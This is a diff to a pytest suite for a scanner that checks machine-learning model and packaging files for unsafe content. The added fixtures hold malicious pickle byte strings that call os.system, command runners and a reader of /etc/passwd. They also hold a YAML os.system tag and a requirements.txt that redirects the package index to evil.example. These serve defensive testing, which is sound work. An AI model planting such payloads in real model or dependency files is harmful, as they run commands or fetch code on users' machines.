@@ -377,7 +377,7 @@ def test_a_folder_is_looked_into_file_by_file(tmp_path: Path) -> None:
         ("GM001", "data/config.json"),
         ("GM007", "out.pkl"),
     }
-    assert {error.split(":")[0] for error in result.errors} == {"MLmodel", "code.py"}
+    assert {error.split(":")[0] for error in result.errors} == {"MLmodel", "code.py", "data/notes.txt"}
 
 
 def saved_model(*ops: str) -> bytes:
@@ -399,7 +399,7 @@ def saved_model(*ops: str) -> bytes:
 
 def test_operations_of_a_saved_model_are_read_without_tensorflow(tmp_path: Path) -> None:
     (tmp_path / "variables").mkdir()
-    (tmp_path / "variables" / "variables.index").write_bytes(b"\0")
+    (tmp_path / "variables" / "variables.index").write_bytes(bytes(40) + bytes.fromhex("57fb808b247547db"))
     (tmp_path / "saved_model.pb").write_bytes(saved_model("ReadFile", "MatMul", "Relu", "WriteFile"))
     result = scan(tmp_path)
     assert [finding.message.split(": ")[1] for finding in result.findings] == ["ReadFile", "WriteFile"]
@@ -491,3 +491,75 @@ def test_the_rules_of_the_page_are_those_declared() -> None:
     page = (PROJECT_ROOT / "docs" / "scanning.md").read_text()
     rows = re.findall(r"^\| (GM\d+) \| `(.+?)` \| (\w+) \| (.+?) \| (.+?) \|$", page, flags=re.MULTILINE)
     assert rows == [(r.id, r.name, r.severity, r.message, r.source) for r in RULES.values()]
+
+
+WRAPPED = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n"
+SNEAKY = {
+    "a wrapper made by copyreg": b"ccopyreg\n_reconstructor\n(" + WRAPPED + b"cbuiltins\nobject\nNtR}b.",
+    "a wrapper that is called": WRAPPED + b")R}b.",
+    "a name computed at run time": b"\x80\x04cbuiltins\nstr\n\x8c\x02os\x85R\x8c\x06system\x93.",
+    "a command runner": b"c_osx_support\n_read_output\n(Vid\ntR.",
+    "another": b"cuuid\n_get_command_stdout\n(Vid\ntR.",
+    "a file opener": b"c_pyio\nopen\n(V/etc/passwd\ntR.",
+    "a reader of pickles": b"cpandas\nread_pickle\n(V/tmp/x\ntR.",
+    "a re-export of scikit-learn's": b"csklearn.utils.fixes\nPath\n(V/tmp\ntR.",
+    "a class of nobody's": b"csomebody.module\nModel\n)R.",
+}
+
+
+@pytest.mark.parametrize("content", SNEAKY.values(), ids=SNEAKY)
+def test_what_is_not_on_the_allow_list_is_never_clean(content: bytes, tmp_path: Path) -> None:
+    (tmp_path / "m.pkl").write_bytes(content)
+    result = scan(tmp_path / "m.pkl")
+    severe = [finding for finding in result.findings if finding.severity == "high"]
+    assert severe or result.errors, "would pass a gate of --fail-on high"
+
+
+def test_models_of_scikit_learn_are_clean(tmp_path: Path) -> None:
+    import joblib
+    from sklearn.ensemble import RandomForestClassifier
+    from sklearn.linear_model import LogisticRegression
+    from sklearn.pipeline import make_pipeline
+    from sklearn.preprocessing import StandardScaler
+    from sklearn.svm import SVC
+
+    x, y = np.random.default_rng(0).normal(size=(40, 5)), np.arange(40) % 2
+    for model in (RandomForestClassifier(3), make_pipeline(StandardScaler(), LogisticRegression()), SVC()):
+        model.fit(x, y)
+        joblib.dump(model, tmp_path / "m.joblib")
+        (tmp_path / "m.pkl").write_bytes(pickle.dumps(model))
+        assert scan(tmp_path / "m.joblib") == scan(tmp_path / "m.pkl") == Scanned()
+
+
+def test_every_allowed_class_of_scikit_learn_is_defined_where_it_is_named() -> None:
+    import importlib
+    import warnings
+
+    from gauntlet.assurance.scan.models.objects import _sklearn
+
+    for module, names in _sklearn().items():
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore")
+            found = importlib.import_module(module)
+        assert {name for name in names if not name.startswith("__")} <= {
+            name for name, thing in vars(found).items() if getattr(thing, "__module__", "") == module
+        }
+
+
+INERT = {
+    "conda.yaml": (b"x: !!python/object/apply:os.system [id]\n", "GM003"),
+    "requirements.txt": (b"--index-url http://evil.example/simple\nnumpy\n", "GM015"),
+    "below/MLmodel": (b'{"flavors": {"keras": {"keras_module": "evil"}}}', "GM015"),
+}
+
+
+@pytest.mark.parametrize(("name", "content", "rule"), [(n, *facts) for n, facts in INERT.items()], ids=INERT)
+def test_texts_that_run_or_fetch_code_are_told(name: str, content: bytes, rule: str, tmp_path: Path) -> None:
+    (tmp_path / name).parent.mkdir(exist_ok=True)
+    (tmp_path / name).write_bytes(content)
+    assert rule in {finding.rule for finding in scan(tmp_path).findings}
+
+
+def test_an_operation_that_is_not_known_is_never_clean(tmp_path: Path) -> None:
+    (tmp_path / "saved_model.pb").write_bytes(saved_model("MatMul", "SomebodysOwnOp"))
+    assert "SomebodysOwnOp is not on the allow-list" in scan(tmp_path).errors[0]
